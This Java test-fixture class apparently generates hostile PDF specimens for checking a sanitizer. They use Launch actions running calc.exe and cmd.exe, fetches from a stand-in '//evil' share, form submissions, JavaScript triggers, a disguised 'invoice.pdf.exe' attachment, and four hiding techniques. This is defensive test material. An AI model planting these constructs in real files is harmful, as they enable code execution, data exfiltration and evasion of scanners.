package org.anju.materials.corpus;

import static org.anju.materials.corpus.RawPdf.stream;
import static org.anju.materials.corpus.Specimen.Expect.EITHER;
import static org.anju.materials.corpus.Specimen.Expect.HARMLESS;
import static org.anju.materials.corpus.Specimen.Expect.REFUSED;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.anju.materials.corpus.Specimen.Expect;

/** PDFs that act: each plainly, with its names hidden, packed in an object stream, and in a change behind the end. */
final class HostilePdfs {

    private static final String SCRIPT = "<</S/JavaScript/JS(app.alert('" + Specimen.MARK + "'))>>";

    private HostilePdfs() {}

    /** What acts, and where it hangs. */
    private record Evil(String name, Expect expect, String inRoot, String inPage, List<String> more) {}

    /** In the tests what is refused stands plainly and in one disguise, in turn: each refusal costs a process. */
    static List<Specimen> all(boolean everyDisguise) {
        List<Specimen> all = new ArrayList<>();
        int turn = 0;
        for (Evil each : evils()) {
            List<Specimen> forms = forms(each);
            if (everyDisguise || each.expect() != REFUSED) {
                all.addAll(forms);
            } else {
                all.add(forms.getFirst());
                all.add(forms.get(1 + turn++ % 3));
            }
        }
        return all;
    }

    private static List<Specimen> forms(Evil each) {
        List<String> objects = RawPdf.onePage(each.inRoot(), each.inPage(), each.more());
        List<String> honest = RawPdf.onePage("", "", List.of());
        Map<Integer, String> then = new TreeMap<>();
        for (int n = 1; n <= objects.size(); n++) {
            if (n > honest.size() || !objects.get(n - 1).equals(honest.get(n - 1))) {
                then.put(n, objects.get(n - 1));
            }
        }
        List<String> hidden = RawPdf.hidden(objects);
        return List.of(
                new Specimen(each.name() + ", plainly", RawPdf.plain(objects), each.expect()),
                new Specimen(each.name() + ", names hidden", RawPdf.plain(hidden), each.expect()),
                new Specimen(each.name() + ", in an object stream", RawPdf.packed(hidden), each.expect()),
                new Specimen(each.name() + ", in an update", RawPdf.updated(honest, then), each.expect()));
    }

    private static List<Evil> evils() {
        List<Evil> all = new ArrayList<>();
        opening(all, "a script on opening", HARMLESS, SCRIPT);
        opening(all, "a program on opening", REFUSED, "<</S/Launch/F(calc.exe)>>");
        opening(all, "a web page on opening", HARMLESS, "<</S/URI/URI(http://" + Specimen.MARK + ".example/)>>");
        opening(all, "data sent on opening", HARMLESS, "<</S/SubmitForm/F(http://" + Specimen.MARK + ")>>");
        opening(all, "data fetched on opening", REFUSED, "<</S/ImportData/F(//evil/share/a.fdf)>>");
        opening(all, "another file on opening", REFUSED, "<</S/GoToR/F(//evil/share/a.pdf)/D[0/Fit]>>");
        opening(all, "a file inside on opening", REFUSED, "<</S/GoToE/T<</R/C/N(a.pdf)>>/D[0/Fit]>>");
        opening(all, "a film on opening", REFUSED, "<</S/Movie/T(a)/Operation/Play>>");
        opening(all, "a rendition on opening", REFUSED, "<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D(a)>>>>>>");
        opening(all, "a script after a jump", HARMLESS, "<</S/GoTo/D[3 0 R/Fit]/Next " + SCRIPT + ">>");
        all.add(new Evil(
                "a script by name", HARMLESS, "/Names<</JavaScript<</Names[(a)5 0 R]>>>>", "", List.of(SCRIPT)));
        all.add(new Evil("a script on turning to a page", HARMLESS, "", "/AA<</O 5 0 R>>", List.of(SCRIPT)));
        all.add(new Evil(
                "a web page on turning to a page", HARMLESS, "", "/AA<</O<</S/URI/URI(http://x)>>>>", List.of()));
        all.add(new Evil("a script on closing", HARMLESS, "/AA<</WC 5 0 R>>", "", List.of(SCRIPT)));
        all.add(new Evil(
                "a script as a stream",
                HARMLESS,
                "/OpenAction 5 0 R",
                "",
                List.of("<</S/JavaScript/JS 6 0 R>>", stream("", "app.alert('" + Specimen.MARK + "')"))));
        all.add(new Evil(
                "a script in the outline",
                HARMLESS,
                "/Outlines 5 0 R",
                "",
                List.of(
                        "<</Type/Outlines/First 6 0 R/Last 6 0 R/Count 1>>",
                        "<</Title(a)/Parent 5 0 R/A " + SCRIPT + ">>")));
        annotation(
                all, "a program on a click", REFUSED, "/Link/A<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>", List.of());
        annotation(all, "a rich medium", REFUSED, "/RichMedia/RichMediaContent<</Configurations[]>>", List.of());
        annotation(all, "a solid body", REFUSED, "/3D/3DD 6 0 R", List.of(stream("/Type/3D/Subtype/U3D", "U3D")));
        annotation(all, "a sound", REFUSED, "/Sound/Sound 6 0 R", List.of(stream("/Type/Sound/R 8000", "aaaa")));
        annotation(all, "a film", REFUSED, "/Movie/Movie<</F(a.avi)>>", List.of());
        annotation(all, "a screen", REFUSED, "/Screen/A<</S/Rendition/OP 0>>", List.of());
        annotation(all, "a web page pinned on", REFUSED, "/FileAttachment/FS 6 0 R", attached("a.html"));
        annotation(all, "data pinned on", HARMLESS, "/FileAttachment/FS 6 0 R", attached("a.xml"));
        String names = "/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>";
        all.add(new Evil("a program inside", REFUSED, names, "", attachedFrom(5, "invoice.pdf.exe")));
        all.add(new Evil("a paper inside", REFUSED, names, "", attachedFrom(5, "a.pdf")));
        all.add(new Evil("data inside", HARMLESS, names, "", attachedFrom(5, "a.xml")));
        String form = "/AcroForm<</Fields[5 0 R]";
        String field = "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]";
        all.add(new Evil(
                "an XFA form",
                REFUSED,
                form + "/XFA 6 0 R>>",
                "/Annots[5 0 R]",
                List.of(field + ">>", stream("", "<xdp:xdp/>"))));
        all.add(new Evil(
                "a script on each key",
                HARMLESS,
                form + ">>",
                "/Annots[5 0 R]",
                List.of(field + "/AA<</K " + SCRIPT + ">>>>")));
        all.add(new Evil(
                "a button that sends",
                HARMLESS,
                form + ">>",
                "/Annots[5 0 R]",
                List.of(field + "/A<</S/SubmitForm/F(http://" + Specimen.MARK + ")>>>>")));
        all.add(new Evil(
                "a stream that lies elsewhere",
                REFUSED,
                "/Metadata 5 0 R",
                "",
                List.of(stream("/F(//evil/share/a)", ""))));
        all.add(new Evil(
                "a page of another file",
                REFUSED,
                "",
                "/Annots[6 0 R]",
                List.of(
                        stream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(//evil/a.pdf)/Page 0>>", ""),
                        "<</Type/Annot/Subtype/Stamp/Rect[0 0 9 9]/AP<</N 5 0 R>>>>")));
        all.add(new Evil("an orphaned script", EITHER, "", "", List.of(SCRIPT)));
        return all;
    }

    private static void opening(List<Evil> all, String name, Expect expect, String action) {
        all.add(new Evil(name, expect, "/OpenAction 5 0 R", "", List.of(action)));
    }

    private static void annotation(List<Evil> all, String name, Expect expect, String kind, List<String> more) {
        List<String> objects = new ArrayList<>(List.of("<</Type/Annot/Rect[0 0 99 99]/Subtype" + kind + ">>"));
        objects.addAll(more);
        all.add(new Evil(name, expect, "", "/Annots[5 0 R]", objects));
    }

    private static List<String> attached(String name) {
        return attachedFrom(6, name);
    }

    private static List<String> attachedFrom(int number, String name) {
        return List.of(
                "<</Type/Filespec/F(" + name + ")/UF(" + name + ")/EF<</F " + (number + 1) + " 0 R>>>>",
                stream("/Type/EmbeddedFile", "<a>" + Specimen.MARK + "</a>"));
    }
}
